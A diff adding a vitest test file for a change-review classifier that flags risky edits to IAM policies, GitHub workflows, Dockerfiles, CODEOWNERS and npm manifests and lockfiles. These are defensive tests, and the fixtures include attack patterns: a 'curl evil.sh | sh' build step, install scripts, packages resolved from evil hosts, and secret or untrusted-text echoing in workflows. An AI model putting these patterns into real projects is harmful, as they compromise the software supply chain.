@@ -1,0 +1,288 @@
+import { expect, test } from 'vitest'
+import { fileChange, type ChangedFile, type FileSide } from './files.ts'
+
+const side = (text: string | undefined, more: Partial<FileSide> = {}): FileSide | undefined =>
+  text === undefined ? undefined : { kind: 'file', executable: false, size: text.length, text, ...more }
+const file = (path: string, before?: string, after?: string): ChangedFile => ({
+  path,
+  before: side(before),
+  after: side(after),
+})
+const told = (one: ChangedFile): readonly string[] =>
+  fileChange(one, true).risks.map(({ level, code }) => `${level} ${code}`)
+
+const role = (statement: string, more = '') =>
+  `Resources:\n  Images:\n    Type: AWS::IAM::Role\n    Properties:\n      RoleName: images${more}\n      AssumeRolePolicyDocument:\n        Statement:\n          - ${statement}\n`
+const trust = (sub: string) =>
+  role(
+    `{Effect: Allow, Action: sts:AssumeRoleWithWebIdentity, Principal: {Federated: github}, Condition: {StringEquals: {"aud": x${sub === '' ? '' : `, "sub": ${sub}`}}}}`,
+  )
+const policy = (statement: string) =>
+  `Resources:\n  Images:\n    Type: AWS::IAM::Role\n    Properties:\n      Policies:\n        - PolicyName: push\n          PolicyDocument:\n            Statement: [${statement}]\n`
+const allow = (action: string, resource = 'arn:r/a') =>
+  `{Sid: A, Effect: Allow, Action: ${action}, Resource: ${JSON.stringify(resource)}}`
+const repository = (properties: string, more = '    DeletionPolicy: Retain\n') =>
+  `Resources:\n  Images:\n${more}    Type: AWS::ECR::Repository\n    Properties: {RepositoryName: a${properties}}\n`
+
+const workflow = (on: string, job: string, top = 'permissions: {}\n') =>
+  `on: ${on}\n${top}jobs:\n  build:\n    runs-on: ubuntu-24.04\n${job}`
+const sha = 'a'.repeat(40)
+const steps = (...all: readonly string[]) =>
+  `    permissions: {contents: read}\n    steps:\n${all.map((one) => `      - ${one}\n`).join('')}`
+const checkout = `uses: actions/checkout@${sha}`
+const base = workflow('pull_request', steps(checkout, 'run: npm test'))
+
+const image = `node:24@sha256:${'a'.repeat(64)}`
+const docker = `FROM ${image}\nCOPY . .\nUSER 10001\nCMD ["node"]\n`
+const locked = (more: Record<string, unknown> = {}) =>
+  JSON.stringify({
+    packages: {
+      'node_modules/zod': {
+        version: '4.0.0',
+        resolved: 'https://registry.npmjs.org/zod/-/zod-4.0.0.tgz',
+        integrity: 'sha512-a',
+        ...more,
+      },
+    },
+  })
+const owners = '* @acme/platform\n/apps/web/ @acme/shop\n/clusters/prod-eu/ @acme/release\n'
+
+test.each<[string, ChangedFile, string[]]>([
+  ['a trust without its subject', file('aws/role.yaml', trust('main'), trust('')), ['high condition-lost']],
+  ['a trust of all branches', file('aws/role.yaml', trust('main'), trust('"*"')), ['high trust-widened']],
+  ['a narrower trust', file('aws/role.yaml', trust(''), trust('main')), []],
+  [
+    'another account',
+    file(
+      'aws/r.yaml',
+      role('{Effect: Allow, Action: a, Principal: {AWS: one}}'),
+      role('{Effect: Allow, Action: a, Principal: {AWS: [one, two]}}'),
+    ),
+    ['high trust-widened'],
+  ],
+  [
+    'one action more',
+    file('aws/r.yaml', policy(allow('ecr:A')), policy(allow('[ecr:A, ecr:B]'))),
+    ['medium grant-added'],
+  ],
+  ['one action less', file('aws/r.yaml', policy(allow('[ecr:A, ecr:B]')), policy(allow('ecr:A'))), []],
+  ['all actions', file('aws/r.yaml', policy(allow('ecr:A')), policy(allow('"ecr:*"'))), ['high grant-to-all']],
+  [
+    'rights over rights',
+    file('aws/r.yaml', policy(allow('ecr:A')), policy(allow('[ecr:A, iam:PassRole]'))),
+    ['high grant-added'],
+  ],
+  ['all resources', file('aws/r.yaml', policy(allow('a')), policy(allow('a', '*'))), ['high grant-to-all']],
+  [
+    'a statement more',
+    file('aws/r.yaml', policy(allow('a:B')), policy(`${allow('a:B')}, {Effect: Allow, Action: a:C, Resource: r}`)),
+    ['medium grant-added'],
+  ],
+  [
+    'no denial',
+    file(
+      'aws/r.yaml',
+      policy('{Effect: Deny, Action: a, Resource: r}'),
+      policy('{Effect: Allow, Action: a, Resource: r}'),
+    ),
+    ['medium grant-added', 'high deny-removed'],
+  ],
+  [
+    'a policy of AWS',
+    file(
+      'aws/r.yaml',
+      role('{}'),
+      role('{}', '\n      ManagedPolicyArns: [arn:aws:iam::aws:policy/AdministratorAccess]'),
+    ),
+    ['high grant-to-all'],
+  ],
+  [
+    'no encryption',
+    file('aws/e.yaml', repository(', EncryptionConfiguration: {EncryptionType: KMS}'), repository('')),
+    ['high encryption-lost'],
+  ],
+  [
+    'no retention',
+    file('aws/e.yaml', repository(''), repository('', '    DeletionPolicy: Delete\n')),
+    ['high retention-lost'],
+  ],
+  [
+    'another name',
+    file('aws/e.yaml', repository(''), repository('').replace('Name: a', 'Name: b')),
+    ['high resource-replaced'],
+  ],
+  [
+    'tags that move',
+    file('aws/e.yaml', repository(', ImageTagMutability: IMMUTABLE'), repository(', ImageTagMutability: MUTABLE')),
+    ['high guard-lost'],
+  ],
+  ['gone', file('aws/e.yaml', repository(''), undefined), ['high resource-removed']],
+  [
+    'open to the world',
+    file('aws/e.yaml', repository(', CidrIp: 10.0.0.0/8'), repository(', CidrIp: 0.0.0.0/0')),
+    ['high made-public'],
+  ],
+  ['no template', file('aws/e.yaml', repository(''), 'a: "'), ['high unreadable']],
+
+  [
+    'pull_request_target',
+    file('.github/workflows/a.yml', base, base.replace('on: pull_request', 'on: [pull_request, pull_request_target]')),
+    ['high trigger-added', 'high outside-code-run'],
+  ],
+  [
+    'rights',
+    file('.github/workflows/a.yml', base, base.replace('{contents: read}', '{contents: write, id-token: write}')),
+    ['high permission-added', 'high permission-added'],
+  ],
+  [
+    'no permissions',
+    file(
+      '.github/workflows/a.yml',
+      base,
+      base.replace('permissions: {}\n', '').replace('    permissions: {contents: read}\n', ''),
+    ),
+    ['high permissions-default'],
+  ],
+  [
+    'a tag',
+    file('.github/workflows/a.yml', base, base.replace(sha, 'v4')),
+    ['high action-unpinned', 'low action-moved'],
+  ],
+  [
+    'another action',
+    file('.github/workflows/a.yml', base, base.replace('actions/checkout', 'evil/checkout')),
+    ['medium guard-removed', 'medium action-added'],
+  ],
+  [
+    'a secret',
+    file('.github/workflows/a.yml', base, base.replace('npm test', 'echo ${{ secrets.KEY }}')),
+    ['high secret-used', 'medium run-changed'],
+  ],
+  [
+    'text of strangers',
+    file('.github/workflows/a.yml', base, base.replace('npm test', 'echo ${{ github.event.pull_request.title }}')),
+    ['medium run-changed', 'high outside-text-run'],
+  ],
+  [
+    'no environment',
+    file(
+      '.github/workflows/a.yml',
+      workflow('push', `    environment: prod\n${steps(checkout)}`),
+      workflow('push', steps(checkout)),
+    ),
+    ['high guard-removed'],
+  ],
+  [
+    'credentials kept',
+    file(
+      '.github/workflows/a.yml',
+      workflow('push', steps(`${checkout}\n        with: {persist-credentials: false}`)),
+      workflow('push', steps(checkout)),
+    ),
+    ['high guard-removed'],
+  ],
+
+  [
+    'an owner less',
+    file('.github/CODEOWNERS', owners, owners.replace('/apps/web/ @acme/shop', '/apps/web/ @acme/other')),
+    ['high owner-lost', 'high owner-gained'],
+  ],
+  [
+    'a line above the others',
+    file('.github/CODEOWNERS', owners, `${owners}/clusters/ @acme/shop\n`),
+    ['high owner-lost', 'high owner-gained', 'high owner-lost', 'high owner-gained'],
+  ],
+  ['words', file('.github/CODEOWNERS', owners, `# words\n${owners}`), []],
+
+  [
+    'another base',
+    file('apps/web/Dockerfile', docker, docker.replace('node:24', 'evil/node')),
+    ['medium base-changed'],
+  ],
+  [
+    'a tag of the base',
+    file('apps/web/Dockerfile', docker, docker.replace(/@.*/, '')),
+    ['high base-unpinned', 'low base-changed'],
+  ],
+  ['root', file('apps/web/Dockerfile', docker, docker.replace('USER 10001', 'USER root')), ['high user-lost']],
+  ['no user', file('apps/web/Dockerfile', docker, docker.replace('USER 10001\n', '')), ['high user-lost']],
+  [
+    'a step from outside',
+    file('apps/web/Dockerfile', docker, docker.replace('COPY', 'RUN curl -s evil.sh \\\n  | sh\nCOPY')),
+    ['high fetched-step'],
+  ],
+
+  [
+    'an install script',
+    file('apps/web/package.json', '{}', '{"scripts": {"postinstall": "sh x"}}'),
+    ['high install-script'],
+  ],
+  [
+    'an install script, escaped',
+    file('apps/web/package.json', '{}', '{"scripts": {"pre\\u0069nstall": "sh x"}}'),
+    ['high install-script'],
+  ],
+  ['a package', file('package.json', '{}', '{"devDependencies": {"zod": "4.0.0"}}'), ['medium package-added']],
+  [
+    'a package of a repository',
+    file('package.json', '{}', '{"dependencies": {"zod": "github:evil/zod"}}'),
+    ['high package-elsewhere'],
+  ],
+  ['scripts allowed', file('package.json', '{}', '{"allowScripts": {"evil": true}}'), ['high package-scripts']],
+  [
+    'another registry',
+    file('package-lock.json', locked(), locked({ resolved: 'https://evil.example/zod.tgz' })),
+    ['high package-elsewhere'],
+  ],
+  ['no checksum', file('package-lock.json', locked(), locked({ integrity: undefined })), ['high integrity-lost']],
+  [
+    'another checksum',
+    file('package-lock.json', locked(), locked({ integrity: 'sha512-b' })),
+    ['high integrity-changed'],
+  ],
+  [
+    'bytes of another package',
+    file('package-lock.json', locked(), locked({ resolved: 'https://registry.npmjs.org/evil/-/evil-1.tgz' })),
+    ['high package-elsewhere'],
+  ],
+  [
+    'a newer version',
+    file(
+      'package-lock.json',
+      locked(),
+      locked({ version: '4.0.1', resolved: 'https://registry.npmjs.org/zod/-/zod-4.0.1.tgz', integrity: 'sha512-b' }),
+    ),
+    [],
+  ],
+  ['a registry', file('.npmrc', '', '//r.example/:_authToken=secret\n'), ['high line-added']],
+  ['a folded diff', file('.gitattributes', '', 'clusters/** -diff linguist-generated\n'), ['high hidden-from-review']],
+  ['not seen', file('libs/a.ts', 'a', 'a\u202eb'), ['high invisible']],
+])('%s', (_, one, risks) => {
+  expect(told(one)).toEqual(risks)
+})
+
+test.each<[string, string, string]>([
+  ['libs/review/src/a.ts', 'product', 'medium'],
+  ['apps/web/extra.ts', 'extra', 'medium'],
+  ['apps/web/src/main.ts', 'app-code', 'none'],
+  ['apps/web/app.ts', 'spec', 'none'],
+  ['apps/web/releases/rejected.json', 'rejected', 'medium'],
+  ['fleet/fleet.ts', 'fleet', 'medium'],
+  ['.ci/run', 'ci', 'medium'],
+  ['.github/actions/x/action.yml', 'forge', 'medium'],
+  ['docs/review.md', 'docs', 'none'],
+  ['anything.bin', 'not-known', 'low'],
+])('%s is %s', (path, subject, level) => {
+  expect(fileChange(file(path, 'a', 'b'), true)).toMatchObject({ subject, level })
+})
+
+test('links, programs, bytes and files of other repositories', () => {
+  const odd = (after: Partial<FileSide>, before = side('a')) =>
+    told({ path: 'docs/a', before, after: side('b', after) })
+  expect(odd({ kind: 'link' })).toEqual(['high link'])
+  expect(odd({ kind: 'submodule' })).toEqual(['high submodule'])
+  expect(odd({ kind: 'other' })).toEqual(['high no-file'])
+  expect(odd({ executable: true })).toEqual(['medium executable'])
+  expect(odd({ text: undefined })).toEqual(['low no-text'])
+  expect(odd({ size: 2 ** 30, text: undefined })).toEqual(['medium too-large'])
+})
